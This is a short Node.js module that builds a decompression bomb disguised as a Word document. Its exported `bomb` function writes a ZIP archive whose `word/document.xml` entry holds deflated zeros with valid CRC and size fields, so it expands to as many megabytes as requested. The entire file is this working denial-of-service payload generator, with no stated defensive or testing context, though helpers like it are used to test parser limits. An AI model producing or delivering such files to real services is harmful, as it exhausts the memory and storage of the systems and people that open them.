import { createDeflateRaw } from "node:zlib";

/** CRC-32 of so many zeros: the remainder alone moves. */
function checkOfZeros(count) {
  const table = Uint32Array.from({ length: 256 }, (_, byte) => {
    let value = byte;
    for (let bit = 0; bit < 8; ++bit) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
    return value >>> 0;
  });
  let check = 0xffffffff;
  for (let left = count; left > 0; --left) check = (check >>> 8) ^ table[check & 0xff];
  return (check ^ 0xffffffff) >>> 0;
}

async function deflatedZeros(megabytes) {
  const deflate = createDeflateRaw({ level: 9 });
  const chunk = Buffer.alloc(1 << 20);
  const parts = [];
  deflate.on("data", (bytes) => parts.push(bytes));
  for (let i = 0; i < megabytes; ++i)
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once("drain", resolve));
  await new Promise((resolve) => deflate.on("end", resolve).end());
  return Buffer.concat(parts);
}

/** A .docx whose text unpacks to so many megabytes of zeros. */
export async function bomb(megabytes) {
  const name = Buffer.from("word/document.xml");
  const packed = await deflatedZeros(megabytes);
  const size = megabytes << 20;
  const shared = Buffer.alloc(26);
  shared.writeUInt16LE(20, 0);
  shared.writeUInt16LE(8, 4);
  shared.writeUInt32LE(checkOfZeros(size), 10);
  shared.writeUInt32LE(packed.length, 14);
  shared.writeUInt32LE(size, 18);
  shared.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), shared, name, packed]);
  const central = Buffer.concat([Buffer.from("PK\x01\x02\x14\x00", "latin1"), shared, Buffer.alloc(14), name]);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
